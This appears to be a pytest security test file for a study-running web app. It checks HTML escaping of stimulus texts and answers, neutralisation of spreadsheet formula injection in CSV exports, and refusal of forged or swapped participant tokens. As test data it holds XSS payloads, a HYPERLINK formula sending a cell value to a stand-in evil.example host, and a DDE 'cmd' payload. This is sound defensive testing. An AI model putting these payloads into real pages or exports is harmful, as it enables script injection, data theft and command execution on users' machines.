"""Escaping of stimulus texts and typed answers (XSS), formula injection in exports, and IDOR:
participants cannot reach or change another participant's session by changing IDs."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
import yaml
from itsdangerous import URLSafeSerializer

from webapp.bots import Bot, BotBehaviour, FlaskTransport
from webapp.definition_cache import study_definition
from webapp.services.export import write_csv

from ..conftest import DEMO, ROOT
from .conftest import login

# Two of the demo's ten pairs: these checks need participants, not their every page.
pytestmark = pytest.mark.demo_pairs(2)

SCRIPT = '<script>alert("xss")</script>'
ATTR = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile_study(tmp_path: Path) -> Path:
    """The demo study with script tags and attribute breakers in every text it shows."""
    studies = tmp_path / "studies"
    pairs_dir = studies / "product_pairs"
    pairs_dir.mkdir(parents=True)
    doc = yaml.safe_load(DEMO.read_text())
    doc["slug"] = "hostile-study"
    doc["title"] = f"Title {SCRIPT}"
    for block in doc["tasks"]:
        if "text" in block:
            block["text"] = f"{block['text']}\n\n{SCRIPT} {ATTR}"
    pairs = yaml.safe_load(
        (ROOT / "stimuli" / "studies" / "product_pairs" / "demo.yaml").read_text()
    )
    for pair in pairs["pairs"]:
        pair["product_type"] = FORMULA
        for side in ("target", "control"):
            pair[side]["manufacturer"] = f"{pair[side]['manufacturer']} {ATTR}"
            pair[side]["review"] = f"{pair[side]['review']} {SCRIPT}"
            pair[side]["summary"] = f"{SCRIPT} {pair[side]['summary']}"
    (pairs_dir / "demo.yaml").write_text(yaml.safe_dump(pairs))
    path = studies / "hostile.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    shutil.copy(DEMO, studies / "unused.yaml")
    return path


def _assert_escaped(html: str) -> None:
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert "onerror=alert(1)>" not in html


def test_stimulus_texts_are_escaped_on_every_page(app, tmp_path):
    from webapp.services.studies import load_study

    with app.app_context():
        definition = study_definition(load_study(_hostile_study(tmp_path)).study)
    bot = Bot(FlaskTransport(app), definition, BotBehaviour(platform="link"), external_id="x1")
    page = bot.open()
    seen: set[str] = set()
    bot.history_html = ""
    while page.kind not in {"completed", "external"}:
        _assert_escaped(page.text)
        bot.history_html += page.text
        seen.add(page.kind)
        page = bot.step()
        assert page.status < 400, page.text[:400]
    assert {"consent", "instructions", "choice", "wtp"} <= seen
    assert "&lt;script&gt;alert(&#34;xss&#34;)&lt;/script&gt;" in bot.history_html


def test_typed_answers_are_escaped_when_shown_back(make_bot):
    bot = make_bot(platform="link")
    page = bot.open()
    while page.kind != "wtp":
        page = bot.step()
    refused = bot.post({**bot.answer(), "premium": SCRIPT})
    assert refused.invalid and refused.status == 200  # shown after the redirect (PRG)
    _assert_escaped(refused.text)
    assert "&lt;script&gt;" in refused.text


def test_exports_neutralise_formula_injection(app, client, tmp_path):
    from webapp.services.studies import load_study

    with app.app_context():
        definition = study_definition(load_study(_hostile_study(tmp_path)).study)
    Bot(FlaskTransport(app), definition, BotBehaviour(platform="link"), external_id="f1").run()
    with app.app_context():
        from webapp.services.researchers import set_researcher

        set_researcher("exp", "pw-export-1", is_admin=True)
    login(app, client, "exp", "pw-export-1")
    resp = client.get("/researcher/studies/hostile-study/export-long.csv")
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert len(rows) == 10
    assert {r["product_type"] for r in rows} == {"'" + FORMULA}


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(value):
    out = io.StringIO()
    write_csv([{"a": value, "n": -2.5}], ["a", "n"], out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    # A lone carriage return would end the row in spreadsheets: it is stored as a newline.
    assert row["a"] == "'" + value.replace("\r", "\n")
    assert row["n"] == "-2.5"  # numbers stay numbers


# -- IDOR ----------------------------------------------------------------------------------------
def _two_participants(make_bot):
    alice, bob = (
        make_bot(platform="link", external_id="alice"),
        make_bot(platform="link", external_id="bob"),
    )
    for bot in (alice, bob):
        page = bot.open()
        while page.kind != "choice":
            page = bot.step()
    return alice, bob


def _n_choices(query) -> int:
    from sqlalchemy import func, select

    from webapp.extensions import db
    from webapp.models import ChoiceResponse

    return query(lambda: db.session.scalar(select(func.count()).select_from(ChoiceResponse)))


def test_a_page_token_of_one_participant_is_refused_on_another(make_bot, query):
    alice, bob = _two_participants(make_bot)
    bobs_url = bob.page.url
    data = {**alice.answer()}  # Alice's valid page token, posted to Bob's page
    status, _, text = alice.transport.request("POST", bobs_url, data)
    assert status == 400 and "E400-TAMPER" in text
    assert _n_choices(query) == 0


def test_forged_or_swapped_participant_tokens_find_no_session(app, make_bot):
    alice, bob = _two_participants(make_bot)
    slug = alice.definition.slug
    forged = URLSafeSerializer("not-the-secret", salt="framelab-participant").dumps(1)
    for token in (forged, "1", "MQ", alice.page.url.rsplit("/", 1)[1] + "x"):
        resp = app.test_client().get(f"/s/{slug}/p/{token}")
        assert resp.status_code == 404 and b"E404-SESSION" in resp.data, token
    # A real token used under another study's slug is refused too.
    token = alice.page.url.rsplit("/", 1)[1]
    resp = app.test_client().get(f"/s/another-study/p/{token}")
    assert resp.status_code == 404


def test_another_persons_id_resumes_their_session_but_changes_nothing_saved(make_bot, query):
    """The recruiter's ID is the credential (documented in docs/security.md): who knows Bob's
    ID can continue Bob's session, as on Prolific, but never alter what Bob already saved."""
    alice, bob = _two_participants(make_bot)
    old_page, old_answer = bob.page, bob.answer()
    bob.post(old_answer)  # Bob saves his first choice
    saved = _n_choices(query)
    mallory = make_bot(platform="link", external_id="mallory")
    assert mallory.open().kind == "consent"
    page = mallory.post({**mallory.answer(), "participant": "bob"})
    assert page.kind == "wtp"  # Bob's current page, not Alice's, not a fresh enrolment
    # Mallory replays Bob's earlier choice with another side: refused as a replay.
    flipped = {
        **old_answer,
        "side": "left" if old_answer["side"] == "right" else "right",
    }
    status, _, _ = mallory.transport.request("POST", old_page.url, flipped)
    assert status in (302, 303) and _n_choices(query) == saved
    from sqlalchemy import select

    from webapp.extensions import db
    from webapp.models import ChoiceResponse

    side = query(lambda: db.session.scalars(select(ChoiceResponse.chosen_side)).one())
    assert side == old_answer["side"]
